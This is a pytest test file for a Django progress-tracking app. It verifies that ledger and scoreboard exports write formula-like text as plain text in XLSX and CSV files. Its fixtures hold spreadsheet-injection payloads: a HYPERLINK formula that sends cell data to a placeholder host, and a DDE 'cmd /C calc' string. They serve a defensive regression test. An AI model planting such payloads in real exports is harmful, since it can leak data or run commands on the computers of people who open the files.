"""Exports write text that starts with = + - @ as text (issue #15): in the XLSX a string cell with Excel's
quote prefix, never a live formula; in the CSV the text behind a "'". Figures stay numbers, a negative
one included. The text comes from people: a metric from the data file, a department name edited in the
admin."""

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from progress import exports
from progress.boards import department_scoreboard, ledger_items, target_rows
from progress.services import progress_entry_submit
from targets.models import Department, Target

pytestmark = pytest.mark.django_db

AS_OF = dt.date(2020, 7, 3)
HOSTILE = {
    "metric": '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
    "chapter": "+1+2",
    "task": "-2+3",
}


@pytest.fixture
def hostile_texts(clock, report_2020, official_zhang):
    clock("2020-04-03")
    target = Target.objects.get(report=report_2020, code="1.1.04")
    progress_entry_submit(target=target, period_end=dt.date(2020, 3, 31), value="-6.5", by=official_zhang)
    clock("2020-07-03")
    Target.objects.filter(pk=target.pk).update(metric=HOSTILE["metric"])
    Department.objects.filter(code="industry").update(name=HOSTILE["department"])
    target.task.chapter.__class__.objects.filter(pk=target.task.chapter_id).update(title=HOSTILE["chapter"])
    target.task.__class__.objects.filter(pk=target.task_id).update(title=HOSTILE["task"])
    return target


def ledger_inputs(manager):
    rows = [row for row in target_rows(user=manager, as_of=AS_OF) if row.target.code == "1.1.04"]
    return {"rows": list(ledger_items(rows, as_of=AS_OF)), "as_of": AS_OF}


def test_the_xlsx_ledger_writes_formula_like_text_as_text(hostile_texts, manager_wang):
    sheet = openpyxl.load_workbook(
        exports.ledger_xlsx(**ledger_inputs(manager_wang), title="=1+1 台账")
    ).active
    header = [cell.value for cell in sheet[2]]
    row = dict(zip(header, sheet[3], strict=True))

    for column, text in (
        ("指标", "metric"),
        ("牵头单位", "department"),
        ("章节", "chapter"),
        ("重点任务", "task"),
    ):
        assert row[column].value == HOSTILE[text]
        assert row[column].data_type == "s", column
        assert row[column].quotePrefix, column
    assert sheet["A1"].data_type == "s"
    assert row["3月"].value == -6.5
    assert row["3月"].data_type == "n"


def test_the_xlsx_holds_no_formula_at_all(hostile_texts, manager_wang):
    content = exports.ledger_xlsx(**ledger_inputs(manager_wang), title="=1+1 台账")
    sheet_xml = zipfile.ZipFile(content).read("xl/worksheets/sheet1.xml").decode()

    assert "<f>" not in sheet_xml


def test_a_text_starting_with_equals_reads_back_as_that_text(db):
    table = exports.Table(
        sheet="=SUM(A1)",
        columns=(exports.Column("=公式"), exports.Column("说明", exports.WRAP)),
        rows=[("=1+1", "=A1*2"), ("ok", "+3")],
        title='=HYPERLINK("http://example.invalid")',
        note="=cmd|' /C calc'!A0",
    )
    content = exports._xlsx(table)
    sheet = openpyxl.load_workbook(content).active
    texts = [(cell.value, cell.data_type, cell.quotePrefix) for row in sheet.iter_rows() for cell in row[:1]]

    assert texts == [
        ('=HYPERLINK("http://example.invalid")', "s", True),
        ("=公式", "s", True),
        ("=1+1", "s", True),
        ("ok", "s", False),
        ("=cmd|' /C calc'!A0", "s", True),
    ]
    assert (sheet["B3"].value, sheet["B4"].value) == ("=A1*2", "+3")
    assert "<f>" not in zipfile.ZipFile(content).read("xl/worksheets/sheet1.xml").decode()


def test_the_csv_ledger_prefixes_formula_like_text_and_keeps_negative_figures(hostile_texts, manager_wang):
    text = "".join(exports.ledger_csv(rows=ledger_inputs(manager_wang)["rows"]))
    header, row = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    cells = dict(zip(header, row, strict=True))

    assert cells["指标"] == "'" + HOSTILE["metric"]
    assert cells["牵头单位"] == "'" + HOSTILE["department"]
    assert cells["章节"] == "'+1+2"
    assert cells["重点任务"] == "'-2+3"
    assert cells["3月"] == "-6.5"


def test_the_scoreboard_csv_and_xlsx_escape_a_department_name(hostile_texts, manager_wang):
    scores = department_scoreboard(as_of=AS_OF)

    lines = list(
        csv.reader(io.StringIO("".join(exports.scoreboard_csv(scores=scores)).removeprefix("\ufeff")))
    )
    names = [line[1] for line in lines[1:]]
    assert "'" + HOSTILE["department"] in names

    sheet = openpyxl.load_workbook(exports.scoreboard_xlsx(scores=scores, as_of=AS_OF, rule="x")).active
    cells = [row[1] for row in sheet.iter_rows(min_row=3) if row[1].value == HOSTILE["department"]]
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
